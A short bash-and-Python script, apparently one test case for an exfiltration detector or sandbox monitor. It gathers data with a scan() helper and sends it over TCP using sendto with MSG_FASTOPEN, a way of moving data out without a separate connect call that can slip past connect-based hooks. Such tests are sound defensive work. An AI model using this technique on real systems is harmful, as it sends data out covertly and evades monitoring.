#!/usr/bin/env bash
# technique: sendto with MSG_FASTOPEN: data without connect
# hooks: socket_sendmsg
# sink: private-tcp

. attack.sh
python3 - <<'PY'
from attack import *

data = scan()
with socket.socket() as sink:
    sent = sink.sendto(data[:1000], socket.MSG_FASTOPEN, TCP)
    sink.sendall(data[sent:])
PY
